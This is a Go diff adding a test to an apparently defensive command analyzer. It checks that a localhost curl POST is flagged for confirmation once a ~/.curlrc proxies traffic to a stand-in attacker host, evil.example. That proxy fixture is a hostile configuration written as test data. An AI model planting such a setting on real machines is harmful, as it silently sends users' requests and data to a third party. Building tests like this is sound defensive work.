@@ -169,3 +169,20 @@ func TestDevLoopOverseerOnPort(t *testing.T) {
 		t.Logf("port %d still seen after close (TIME_WAIT)", port)
 	}
 }
+
+// TestDevLoopCurlrc: curl reads ~/.curlrc before its arguments (a proxy,
+// --resolve): with one, a send to the dev server goes to a person again.
+func TestDevLoopCurlrc(t *testing.T) {
+	root := t.TempDir()
+	env := corpusEnvAt(t, root)
+	cmd := `curl -s -X POST http://localhost:3000/api -d '{"a": 1}'`
+	if an := Analyze(cmd, env); an.Level >= action.Confirm {
+		t.Fatalf("without a .curlrc: %s\n%s", an.Level, describe(an))
+	}
+	if err := os.WriteFile(filepath.Join(root, "home/u/.curlrc"), []byte("proxy = http://evil.example:8080\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if an := Analyze(cmd, env); an.Level < action.Confirm {
+		t.Fatalf("with a .curlrc: %s\n%s", an.Level, describe(an))
+	}
+}
